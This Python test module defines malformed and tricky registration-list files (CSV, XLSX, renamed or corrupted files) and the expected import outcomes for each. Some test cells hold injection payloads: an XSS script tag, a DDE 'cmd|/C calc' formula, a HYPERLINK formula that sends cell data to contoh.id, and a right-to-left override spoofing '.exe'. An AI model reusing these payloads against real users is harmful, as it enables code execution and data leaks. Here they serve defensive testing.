"""The corpus of registration-list files: what delegations, Excel and a careless rename really produce.

Each case writes its file into a test's folder and says what must come of
it: a refusal (the words its one-line message must hold; nothing written),
or each row's fate by the row number the spreadsheet shows, the words of each
rejected row's reason or of a warning, and values that must be stored as
they are in the file. Phones here start +62857…, names "Uji …": nothing
the demo mission holds.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, datetime, time
from pathlib import Path

import openpyxl

from tests.lists import write_csv, write_docx, write_encrypted_xlsx, write_old_xls, write_xlsx

HEADER = ["No", "Nama", "Instansi", "Jabatan", "No. HP", "Keterangan"]


@dataclass
class ListFile:
    """One file handed to `import attendees`, and what must come of it."""

    name: str
    make: Callable[[Path], Path]
    refused: str = ""  # words of the refusal; empty when the file is read
    fates: dict[int, str] = field(default_factory=dict)  # spreadsheet row → import / duplicate / rejected
    words: dict[int, str] = field(default_factory=dict)  # row → words of its reason (rejected) or a warning
    stored: dict[str, dict[str, object]] = field(default_factory=dict)  # full name as stored → columns as stored


def _bytes(name: str, data: bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    return make


def _rows(name: str, rows: list[list[object]], **options) -> Callable[[Path], Path]:
    if name.endswith(".xlsx"):
        return lambda folder: write_xlsx(folder / name, rows)
    return lambda folder: write_csv(folder / name, rows, **options)


def _zip(name: str, members: dict[str, str]) -> Callable[[Path], Path]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member, text in members.items():
            archive.writestr(member, text)
    return _bytes(name, buffer.getvalue())


PEOPLE = [
    HEADER,
    [1, "Uji Satu Rahayu", "PT Uji Nusantara", "Direktur", "0857-1000-0001", ""],
    [2, "Uji Dua Santoso", "CV Uji Etam", "Pemilik", "0857-1000-0002", ""],
    [3, "Uji Tiga Lestari", "Koperasi Uji Pesisir", "Ketua", "0857-1000-0003", ""],
] + [[n, f"Uji Orang {n}", "PT Uji Nusantara", "Staf", f"0857-1001-{n:04d}", ""] for n in range(4, 60)]


def _good_xlsx(folder: Path) -> Path:
    return write_xlsx(folder / "baik.xlsx", PEOPLE)


def _cut(name: str, keep: Callable[[int], int]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        data = _good_xlsx(folder).read_bytes()
        path = folder / name
        path.write_bytes(data[: keep(len(data))])
        return path

    return make


def _flipped_sheet_bytes(folder: Path) -> Path:
    """A bit of damage inside the compressed sheet, as a bad USB stick leaves it: the zip's index is whole."""
    source = _good_xlsx(folder)
    data = bytearray(source.read_bytes())
    with zipfile.ZipFile(source) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for offset in range(start + 20, start + 60):
        data[offset] ^= 0x55
    path = folder / "rusak.xlsx"
    path.write_bytes(bytes(data))
    return path


def _rewritten(name: str, change: Callable[[str, bytes], bytes | None], rows=PEOPLE) -> Callable[[Path], Path]:
    """A workbook written by openpyxl, then its parts changed (None drops a part), as other programs write them."""

    def make(folder: Path) -> Path:
        source = write_xlsx(folder / f"asal-{name}", rows)
        buffer = io.BytesIO()
        with zipfile.ZipFile(source) as original, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for item in original.infolist():
                content = change(item.filename, original.read(item.filename))
                if content is not None:
                    target.writestr(item.filename, content)
        path = folder / name
        path.write_bytes(buffer.getvalue())
        return path

    return make


def _cells(replacements: dict[str, str]) -> Callable[[str, bytes], bytes]:
    """Put raw cell XML (`<c r="B2" …>…</c>`) in place of the cells openpyxl wrote, in the first sheet."""

    def change(member: str, content: bytes) -> bytes:
        if member != "xl/worksheets/sheet1.xml":
            return content
        text = content.decode()
        for ref, cell in replacements.items():
            text, count = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', cell.replace("\\", "\\\\"), text, count=1)
            assert count == 1, ref
        return text.encode()

    return change


def _formats(name: str, rows: list[list[object]], formats: dict[str, str]) -> Callable[[Path], Path]:
    """Cells with a number format, as a column formatted Date or 0### in Excel gives them."""

    def make(folder: Path) -> Path:
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        for row in rows:
            sheet.append(row)
        for ref, number_format in formats.items():
            sheet[ref].number_format = number_format
        workbook.save(folder / name)
        return folder / name

    return make


def _long_rows() -> list[list[object]]:
    long = ("Panjang" * 1429)[:10_000]
    return [
        [*HEADER, "Kategori", "Provinsi", "Email"],
        [1, long, "PT Uji", "", "0857-1100-0001", "", "", "", ""],
        [2, "Uji Instansi Panjang", long, "", "0857-1100-0002", "", "", "", ""],
        [3, "Uji Jabatan Panjang", "PT Uji", long, "0857-1100-0003", "", "", "", ""],
        [4, "Uji Catatan Panjang", "PT Uji", "", "0857-1100-0004", long, "", "", ""],
        [5, "Uji Telepon Panjang", "PT Uji", "", "8" * 10_000, "", long, long, "a" * 10_000 + "@uji.id"],
        [6, "Uji Baik Panjang", "PT Uji", "Staf", "0857-1100-0006", "", "", "", ""],
    ]


CP1252_ROWS = [
    ["Daftar Peserta Jatim"],
    [],
    ["Nama Lengkap", "Perusahaan", "Jabatan", "No. HP"],
    ["José Müller Uji", "PT Kopi, Teh & Rempah", "Direktur Utama", "0857-1200-0001"],
    ["Đặng Thị Ngọc Ánh", "Saigon Seafood", "Giám đốc", "0857-1200-0002"],  # Windows-1252 has no Đ, ặ, ọ, á, đ
    ["François O’Neil", "Café “Étoile”", "Gérant – Dapur", "0857-1200-0003"],  # letters and marks Windows-1252 has
]

FILES: list[ListFile] = [
    # --- refused whole, nothing written ---------------------------------------------------------------
    ListFile("empty csv (0 bytes)", _bytes("kosong.csv", b""), refused="kosong"),
    ListFile("empty xlsx (0 bytes)", _bytes("kosong.xlsx", b""), refused="kosong"),
    ListFile("csv of blank lines", _bytes("kosong2.csv", b"\r\n \r\n\t\r\n"), refused="kosong"),
    ListFile(
        "workbook without a cell", lambda f: write_xlsx(f / "polos.xlsx", []), refused="judul kolom tidak ditemukan"
    ),
    ListFile(
        "csv of names only, no header", _bytes("nama.csv", b"Budi\nSiti\n"), refused="judul kolom tidak ditemukan"
    ),
    ListFile(
        "html renamed .xlsx",
        _bytes("web.xlsx", b"<html><body><table><tr><td>Nama</td></tr></table></body></html>"),
        refused="halaman web",
    ),
    ListFile(
        "html renamed .csv",
        _bytes("web.csv", b"\xef\xbb\xbf\r\n  <!DOCTYPE html>\n<html lang='id'><td>Nama;HP</td>"),
        refused="halaman web",
    ),
    ListFile(
        "excel web page renamed .xlsx",
        _bytes("web2.xlsx", b'<meta http-equiv="Content-Type"><table><tr><td>Nama</td></tr>'),
        refused="halaman web",
    ),
    ListFile("word document renamed .xlsx", lambda f: write_docx(f / "surat.xlsx"), refused="dokumen Word"),
    ListFile("word document renamed .csv", lambda f: write_docx(f / "surat.csv"), refused="dokumen Word"),
    ListFile(
        "opendocument renamed .xlsx",
        _zip("daftar.xlsx", {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}),
        refused="OpenDocument",
    ),
    ListFile(
        "zip of csv files renamed .xlsx",
        _zip("arsip.xlsx", {"peserta.csv": "Nama;HP\nBudi;0812\n"}),
        refused="arsip zip",
    ),
    ListFile(
        "password-protected workbook",
        lambda f: write_encrypted_xlsx(f / "rahasia.xlsx"),
        refused="dilindungi kata sandi",
    ),
    ListFile("excel 97-2003 workbook", lambda f: write_old_xls(f / "lama.xls"), refused="Excel lama (.xls)"),
    ListFile(
        "excel 97-2003 workbook renamed .xlsx", lambda f: write_old_xls(f / "lama.xlsx"), refused="Excel lama (.xls)"
    ),
    ListFile(
        "text renamed .xlsx", _bytes("teks.xlsx", b"Nama;Instansi\r\nBudi;PT Maju\r\n"), refused="isinya teks biasa"
    ),
    ListFile("xlsx cut in half", _cut("separuh.xlsx", lambda size: size // 2), refused="rusak atau terpotong"),
    ListFile("xlsx missing its last bytes", _cut("ujung.xlsx", lambda size: size - 10), refused="rusak atau terpotong"),
    ListFile("xlsx of its first bytes only", _cut("awal.xlsx", lambda size: 30), refused="rusak atau terpotong"),
    ListFile("xlsx with damaged compressed data", _flipped_sheet_bytes, refused="tidak bisa dibaca sebagai Excel"),
    ListFile(
        "xlsx whose sheet XML is cut",
        _rewritten("potong.xlsx", lambda m, c: c[: len(c) // 2] if m == "xl/worksheets/sheet1.xml" else c),
        refused="tidak bisa dibaca sebagai Excel",
    ),
    ListFile(
        "xlsx without its sheet",
        _rewritten("tanpa.xlsx", lambda m, c: None if m == "xl/worksheets/sheet1.xml" else c),
        refused="tidak berisi lembar kerja",
    ),
    ListFile(
        "xlsx without its workbook part",
        _rewritten("tanpa2.xlsx", lambda m, c: None if m == "xl/workbook.xml" else c),
        refused="arsip zip",
    ),
    ListFile("csv with NUL bytes", _bytes("nul.csv", b"Nama;HP\r\nBu\x00di;0857\x00\r\n"), refused="data biner"),
    ListFile("utf-32 text", _bytes("u32.csv", "Nama;HP\nBudi;0857\n".encode("utf-32-le")), refused="data biner"),
    ListFile("image renamed .csv", _bytes("foto.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), refused="data biner"),
    ListFile("pdf", _bytes("daftar.pdf", b"%PDF-1.4\n1 0 obj\n"), refused="bukan CSV atau XLSX"),
    ListFile(
        "formulas without stored results",
        _rewritten("rumus.xlsx", _cells({"B2": '<c r="B2"><f>HYPERLINK("https://contoh.id","Uji Satu")</f></c>'})),
        refused="rumus yang belum dihitung (sel B2)",
    ),
    ListFile("a folder", lambda f: (f / "daftar.xlsx").mkdir() or f / "daftar.xlsx", refused="folder"),
    ListFile("a file that is not there", lambda f: f / "hilang.xlsx", refused="tidak ditemukan"),
    # --- read: the good rows imported, each bad row named by its number -------------------------------
    ListFile("header-only csv", _rows("kepala.csv", [HEADER], delimiter=";")),
    ListFile("header-only xlsx", _rows("kepala.xlsx", [["Daftar Peserta"], [], HEADER, [], [None, "Jumlah: 0 orang"]])),
    ListFile(
        "windows-1252 csv, letters it lacks saved as '?'",
        lambda f: _cp1252(f / "jatim.csv"),
        fates={4: "import", 5: "import", 6: "import"},
        words={5: "berisi '?'"},
        stored={
            "José Müller Uji": {"organisation": "PT Kopi, Teh & Rempah", "phone": "+6285712000001"},
            "François O’Neil": {"organisation": "Café “Étoile”", "title": "Gérant – Dapur"},
            "??ng Th? Ng?c Ánh": {"phone": "+6285712000002"},
        },
    ),
    ListFile(
        "8-bit csv with a byte Windows-1252 lacks",
        _bytes("latin.csv", b"Nama;HP\r\nUji Bit \x81Delapan;0857-1300-0001\r\nUji Bit Baik;0857-1300-0002\r\n"),
        fates={2: "rejected", 3: "import"},
        words={2: "karakter kendali"},
    ),
    ListFile(
        "semicolon csv with commas and quotes in cells",
        _bytes(
            "titikkoma.csv",
            b'Nama;Instansi;No. HP\r\n"Uji Koma, S.E.";"PT ""Maju""; Jaya, Tbk";0857-1400-0001\r\n'
            b"Uji Titik Koma;CV Etam, Samarinda;0857-1400-0002\r\n",
        ),
        fates={2: "import", 3: "import"},
        stored={
            "Uji Koma, S.E.": {"organisation": 'PT "Maju"; Jaya, Tbk'},
            "Uji Titik Koma": {"organisation": "CV Etam, Samarinda"},
        },
    ),
    ListFile(
        "csv with a NUL byte deep inside",
        _bytes(
            "nul2.csv",
            b"Nama;HP;Catatan\r\n"
            + b"".join(f"Uji Nol {n};0857-1500-{n:04d};{'x' * 40}\r\n".encode() for n in range(100))
            + b"Uji Nol\x00Rusak;0857-1500-9999;\r\nUji Nol Akhir;0857-1500-9998;\r\n",
        ),
        fates={**{n + 2: "import" for n in range(100)}, 102: "rejected", 103: "import"},
        words={102: "karakter kendali"},
    ),
    ListFile(
        "csv with 10,000-character cells",
        _rows("panjang.csv", _long_rows(), delimiter=","),
        fates={2: "rejected", 3: "rejected", 4: "rejected", 5: "rejected", 6: "import", 7: "import"},
        words={
            2: "Nama lengkap terlalu panjang (10000",
            3: "Instansi terlalu panjang",
            4: "Jabatan terlalu panjang",
            5: "Catatan terlalu panjang",
            6: "nomor telepon '888",
        },
        stored={"Uji Telepon Panjang": {"phone": None, "email": None}, "Uji Baik Panjang": {"phone": "+6285711000006"}},
    ),
    ListFile(
        "xlsx with 10,000-character cells",
        _rows("panjang.xlsx", _long_rows()),
        fates={2: "rejected", 3: "rejected", 4: "rejected", 5: "rejected", 6: "import", 7: "import"},
        words={2: "Nama lengkap terlalu panjang (10000", 5: "Catatan terlalu panjang", 6: "kategori 'Panjang"},
    ),
    ListFile(
        "markup, right-to-left, emoji and control characters in csv cells",
        _rows(
            "aneka.csv",
            [
                HEADER,
                [1, "<b>Uji Tebal</b>", "PT <Maju> & Sons", "<script>alert(1)</script>", "0857-1600-0001", "&amp;"],
                [2, "محمد بن سلمان", "شركة الخليج", "مدير", "0857-1600-0002", ""],
                [3, "Uji Senyum 😀", "🇮🇩 Kopi Nusantara", "👩\u200d👩\u200d👧", "0857-1600-0003", ""],
                [4, "Uji\u202egpj.exe", "PT Uji", "", "0857-1600-0004", ""],
                [5, "Uji Bel\x07", "PT Uji", "", "0857-1600-0005", ""],
                [6, "Uji Escape", "\x1b[31mPT Merah", "", "0857-1600-0006", ""],
                [7, "Uji C1\x9b", "PT Uji", "", "0857-1600-0007", ""],
                [8, "\u200bUji Lebar Nol\ufeff", "PT Uji", "", "0857-1600-0008", "baris\x08nol"],
                [9, "\u200bUji Tanpa Lebar\ufeff", "PT Uji", "", "0857-1600-0009", ""],
                [10, "\u2067Uji Isolat\u2069", "PT Uji", "", "0857-1600-0010", ""],
                [11, "Uji Telepon Emoji", "PT Uji", "", "0857-1600-0011 😀", ""],
            ],
            delimiter=";",
        ),
        fates={
            2: "import",
            3: "import",
            4: "import",
            5: "rejected",
            6: "rejected",
            7: "rejected",
            8: "rejected",
            9: "rejected",
            10: "import",
            11: "rejected",
            12: "import",
        },
        words={
            5: "pembalik arah",
            6: "karakter kendali",
            7: "Instansi berisi karakter kendali",
            8: "karakter kendali",
            9: "Catatan berisi karakter kendali",
            11: "pembalik arah",
            12: "nomor telepon '0857-1600-0011 😀'",
        },
        stored={
            "<b>Uji Tebal</b>": {
                "organisation": "PT <Maju> & Sons",
                "title": "<script>alert(1)</script>",
                "notes": "&amp;",
            },
            "محمد بن سلمان": {"organisation": "شركة الخليج", "title": "مدير"},
            "Uji Senyum 😀": {"organisation": "🇮🇩 Kopi Nusantara", "title": "👩\u200d👩\u200d👧"},
            "Uji Tanpa Lebar": {"phone": "+6285716000009"},
            "Uji Telepon Emoji": {"phone": None},
        },
    ),
    ListFile(
        "control characters as Excel writes them in xlsx cells (_x0007_)",
        _rewritten(
            "kendali.xlsx",
            _cells(
                {
                    "B2": '<c r="B2" t="inlineStr"><is><t>Uji Bel_x0007_ Kendali</t></is></c>',
                    "B3": '<c r="B3" t="inlineStr"><is><t>Uji Baris_x000D_\nBaru</t></is></c>',
                    "B4": '<c r="B4" t="inlineStr"><is><t>Uji Garis_x005F_x0007_Bawah</t></is></c>',
                    "C5": '<c r="C5" t="inlineStr"><is><t xml:space="preserve">PT \u202eUji</t></is></c>',
                }
            ),
        ),
        fates={2: "rejected", 3: "import", 4: "import", 5: "rejected", **{n: "import" for n in range(6, 61)}},
        words={2: "karakter kendali", 5: "Instansi berisi karakter pembalik arah"},
        stored={"Uji Baris Baru": {"phone": "+6285710000002"}, "Uji Garis_x0007_Bawah": {"phone": "+6285710000003"}},
    ),
    ListFile(
        "dates where a name or phone belongs",
        _rows(
            "tanggal.xlsx",
            [
                HEADER,
                [1, datetime(2025, 5, 8), "PT Uji Tanggal", "", "0857-1700-0001", ""],
                [2, "Uji Telepon Tanggal", "PT Uji Tanggal", "", datetime(2024, 12, 8), ""],
                [3, "Uji Telepon Hari", "PT Uji Tanggal", "", date(2025, 8, 12), ""],
                [4, "Uji Telepon Jam", "PT Uji Tanggal", "", time(8, 12), ""],
                [5, time(9, 30), "PT Uji Tanggal", "", "0857-1700-0005", ""],
                [6, "Uji Tanggal Baik", "PT Uji Tanggal", "", "0857-1700-0006", datetime(2025, 5, 8, 9, 30)],
            ],
        ),
        fates={2: "rejected", 3: "import", 4: "import", 5: "import", 6: "rejected", 7: "import"},
        words={
            2: "Nama lengkap berisi tanggal (2025-05-08)",
            3: "kolom telepon berisi tanggal (2024-12-08)",
            5: "kolom telepon berisi tanggal (08:12:00)",
            6: "Nama lengkap berisi tanggal (09:30:00)",
        },
        stored={
            "Uji Telepon Tanggal": {"phone": None},
            "Uji Tanggal Baik": {"phone": "+6285717000006", "notes": "2025-05-08 09:30:00"},
        },
    ),
    ListFile(
        "phone numbers as Excel numbers that lost the leading zero",
        _formats(
            "angka.xlsx",
            [
                ["Nama", "No. HP"],
                ["Uji Angka Bulat", 85718000001],
                ["Uji Angka Pecahan", 85718000002.0],
                ["Uji Angka 62", 6285718000003],
                ["Uji Angka Eksponen", 8.5718000004e10],
                ["Uji Angka Format 0###", 85718000005],
                ["Uji Angka Tanggal", 85718000006],
                ["Uji Angka Desimal", 0.5],
                ["Uji Angka Besar", 1e20],
                ["Uji Angka Logika", True],
            ],
            {"B6": "0###########", "B7": "dd/mm/yyyy"},
        ),
        fates={n: "import" for n in range(2, 11)},
        words={
            7: "tidak valid",
            8: "nomor telepon '0.5'",
            9: "nomor telepon '100000000000000000000'",
            10: "nomor telepon 'True'",
        },
        stored={
            "Uji Angka Bulat": {"phone": "+6285718000001"},
            "Uji Angka Pecahan": {"phone": "+6285718000002"},
            "Uji Angka 62": {"phone": "+6285718000003"},
            "Uji Angka Eksponen": {"phone": "+6285718000004"},
            "Uji Angka Format 0###": {"phone": "+6285718000005"},
            "Uji Angka Tanggal": {"phone": None},
        },
    ),
    ListFile(
        "formulas with the results Excel stored",
        _rewritten(
            "rumus-excel.xlsx",
            _cells(
                {
                    "B2": (
                        '<c r="B2" t="str"><f>HYPERLINK("https://contoh.id/budi","Uji Tautan")</f><v>Uji Tautan</v></c>'
                    ),
                    "E2": '<c r="E2" t="str"><f>"0857"&amp;"-1900-0001"</f><v>0857-1900-0001</v></c>',
                    "B3": '<c r="B3" t="str"><f>CONCAT("Uji ","Rumus")</f><v>Uji Rumus</v></c>',
                    "E3": '<c r="E3"><f>85719000000+2</f><v>85719000002</v></c>',
                    "B4": '<c r="B4" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
                    "B5": '<c r="B5" t="e"><v>#N/A</v></c>',
                    "E6": '<c r="E6" t="e"><f>#REF!</f><v>#REF!</v></c>',
                }
            ),
        ),
        fates={2: "import", 3: "import", 4: "rejected", 5: "rejected", **{n: "import" for n in range(6, 61)}},
        words={4: "galat Excel (#DIV/0!)", 5: "galat Excel (#N/A)", 6: "nomor telepon '#REF!'"},
        stored={"Uji Tautan": {"phone": "+6285719000001"}, "Uji Rumus": {"phone": "+6285719000002"}},
    ),
    ListFile(
        "formulas typed into csv cells, kept as text",
        _rows(
            "rumus.csv",
            [
                HEADER,
                [1, '=HYPERLINK("https://contoh.id/?x="&A1,"Klik")', "PT Uji Rumus", "", "0857-2000-0001", ""],
                [2, "@SUM(1+1)*cmd|' /C calc'!A0", "PT Uji Rumus", "", "0857-2000-0002", ""],
                [3, "Uji Rumus Telepon", "=1+1", "+SUM(1)", "=0857-2000-0003", "-2+3"],
            ],
            delimiter=",",
        ),
        fates={2: "import", 3: "import", 4: "import"},
        words={4: "nomor telepon '=0857-2000-0003'"},
        stored={
            '=HYPERLINK("https://contoh.id/?x="&A1,"Klik")': {
                "organisation": "PT Uji Rumus",
                "phone": "+6285720000001",
            },
            "@SUM(1+1)*cmd|' /C calc'!A0": {"phone": "+6285720000002"},
            "Uji Rumus Telepon": {"organisation": "=1+1", "title": "+SUM(1)", "notes": "-2+3", "phone": None},
        },
    ),
    ListFile(
        "the same person twice and a row without a name",
        _rows(
            "ganda.csv",
            [
                HEADER,
                [1, "Uji Ganda", "PT Uji", "", "0857-2100-0001", ""],
                [2, "", "PT Uji", "Sopir", "", ""],
                [3, "Uji Ganda", "PT Uji", "", "+62 857 2100 0001", ""],
                [4, "Uji Ganda Lain", "PT Uji", "", "", ""],
            ],
        ),
        fates={2: "import", 3: "rejected", 4: "duplicate", 5: "import"},
        words={3: "Nama lengkap wajib diisi", 4: "baris 2"},
    ),
]


def _cp1252(path: Path) -> Path:
    """What Excel's "CSV (Comma delimited)" writes on an Indonesian Windows: `;`, Windows-1252, '?' for
    letters it lacks."""
    return write_csv(path, CP1252_ROWS, delimiter=";", encoding="cp1252", errors="replace")


def ids(cases: list[ListFile]) -> list[str]:
    return [case.name for case in cases]


REFUSED_FILES = [case for case in FILES if case.refused]
READ_FILES = [case for case in FILES if not case.refused]
